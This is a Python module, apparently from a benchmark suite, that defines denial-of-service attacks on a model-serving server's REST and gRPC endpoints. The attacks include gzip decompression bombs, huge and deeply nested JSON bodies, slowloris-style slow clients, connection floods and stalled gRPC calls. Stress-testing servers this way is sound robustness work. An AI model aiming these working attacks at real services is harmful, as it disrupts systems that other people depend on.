"""The attacks of `benchmarks.serve.attacks.probes`: what hostile clients send."""

import gzip
import socket
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from functools import cache, partial
from typing import TypeAlias

Address: TypeAlias = tuple[str, int]
Attack: TypeAlias = Callable[[Address, Address, float, Counter[str]], None]
"""A function that attacks the REST and the gRPC address of a server until a time on the clock
`time.monotonic`, and counts the statuses of the responses."""

PREDICT = "/v1/models/half:predict"
_INFLATED_BYTES = 95_000_000


def _fill(unit: bytes, size: int, end: bytes = b"1]}") -> bytes:
    head = b'{"instances": ['
    return head + unit * ((size - len(head) - len(end)) // len(unit)) + end


@cache
def _gzip_of(unit: bytes) -> bytes:
    return gzip.compress(_fill(unit, _INFLATED_BYTES), 9)


def _build_request(body: bytes, headers: str = "") -> bytes:
    head = f"POST {PREDICT} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n{headers}\r\n"
    return head.encode() + body


def _repeat(
    num_connections: int,
    build_request: Callable[[], bytes],
    rest: Address,
    grpc: Address,
    end: float,
    statuses: Counter[str],
) -> None:
    """Send a request again and again on several connections, and wait for each response."""
    data = build_request()

    def send() -> None:
        while time.monotonic() < end:
            try:
                with socket.create_connection(rest, timeout=max(1, end - time.monotonic())) as link:
                    while time.monotonic() < end:
                        link.sendall(data)
                        statuses[_read_status(link)] += 1
            except OSError as error:
                statuses[type(error).__name__] += 1
                time.sleep(0.05)

    _run_in_threads(send, num_connections)


def _read_status(link: socket.socket) -> str:
    received = b""
    while b"\r\n\r\n" not in received:
        chunk = link.recv(65536)
        if not chunk:
            raise ConnectionResetError
        received += chunk
    head, _, body = received.partition(b"\r\n\r\n")
    for line in head.lower().split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name == b"content-length":
            rest = int(value) - len(body)
            while rest > 0 and (chunk := link.recv(min(rest, 1 << 20))):
                rest -= len(chunk)
    return head.split()[1].decode()


def _run_in_threads(function: Callable[[], None], num_threads: int) -> None:
    threads = [threading.Thread(target=function, daemon=True) for _ in range(num_threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _leave(rest: Address, grpc: Address, end: float, statuses: Counter[str]) -> None:
    """Send large requests, and close each connection before the response."""
    data = _build_request(_fill(b"{},", 20_000_000))

    def send() -> None:
        while time.monotonic() < end:
            with socket.create_connection(rest, timeout=60) as link:
                link.sendall(data)
            statuses["closed"] += 1

    _run_in_threads(send, 4)


def _trickle(rest: Address, grpc: Address, end: float, statuses: Counter[str]) -> None:
    """Send requests on 500 connections so slowly that they never end."""
    heads = (b"POST %s HTTP/1.1\r\nX: " % PREDICT.encode(), _build_request(b" " * 10_000)[:-9_999])
    links: list[socket.socket] = []
    try:
        for index in range(500):
            links.append(socket.create_connection(rest, timeout=60))
            links[-1].sendall(heads[index % 2])
        while time.monotonic() < end:
            for link in links:
                link.sendall(b" ")
            time.sleep(0.5)
    except OSError as error:
        statuses[type(error).__name__] += 1
    statuses["open"] = len(links)


def _connect(rest: Address, grpc: Address, end: float, statuses: Counter[str]) -> None:
    """Open and close connections as fast as possible."""

    def open_and_close() -> None:
        while time.monotonic() < end:
            try:
                socket.create_connection(rest, timeout=60).close()
                statuses["opened"] += 1
            except OSError as error:
                statuses[type(error).__name__] += 1

    _run_in_threads(open_and_close, 8)


def _call_silently(rest: Address, grpc: Address, end: float, statuses: Counter[str]) -> None:
    """Begin 1,000 gRPC calls on one connection, and send no message in any."""
    import grpc as grpcio

    channel = grpcio.insecure_channel(f"{grpc[0]}:{grpc[1]}")
    method = channel.stream_unary("/tensorflow.serving.PredictionService/Predict")
    over = threading.Event()

    def send_nothing() -> Iterator[bytes]:
        over.wait()
        yield from ()

    calls = [method.future(send_nothing()) for _ in range(1000)]
    time.sleep(max(0, end - time.monotonic()))
    for call in calls:
        statuses[call.code().name if call.done() else "open"] += 1
    over.set()


def _idle(rest: Address, grpc: Address, end: float, statuses: Counter[str]) -> None:
    time.sleep(max(0, end - time.monotonic()))


def _gzip_request(unit: bytes) -> bytes:
    return _build_request(_gzip_of(unit), "Content-Encoding: gzip\r\n")


def _gzip_blanks() -> bytes:
    compressor = zlib.compressobj(9, wbits=31)
    body = compressor.compress(b" " * _INFLATED_BYTES) + compressor.flush()
    return _build_request(body, "Content-Encoding: gzip\r\n")


ATTACKS: dict[str, Attack] = {
    "none": _idle,
    "gzip of blanks": partial(_repeat, 4, _gzip_blanks),
    "gzip of objects": partial(_repeat, 8, partial(_gzip_request, b"{},")),
    "gzip of lists": partial(_repeat, 8, partial(_gzip_request, b"[],")),
    "gzip of strings": partial(_repeat, 8, partial(_gzip_request, b'"",')),
    "1e999 at the end": partial(
        _repeat, 4, lambda: _build_request(_fill(b"1.5,-0.25,", 9_000_000, b"1e999]}"))
    ),
    "4 MB of objects": partial(_repeat, 8, lambda: _build_request(_fill(b"{},", 4_000_000))),
    "100 KB of objects": partial(_repeat, 16, lambda: _build_request(_fill(b"{},", 100_000))),
    "4 MB of numbers": partial(_repeat, 8, lambda: _build_request(_fill(b"1.5,", 4_000_000))),
    "90 MB of numbers": partial(_repeat, 4, lambda: _build_request(_fill(b"1.5,", 90_000_000))),
    "brackets": partial(_repeat, 8, lambda: _build_request(_fill(b"[" * 2040 + b"x", 4_000_000))),
    "leaving clients": _leave,
    "slow clients": _trickle,
    "many connections": _connect,
    "silent gRPC calls": _call_silently,
}
"""The attacks by name."""
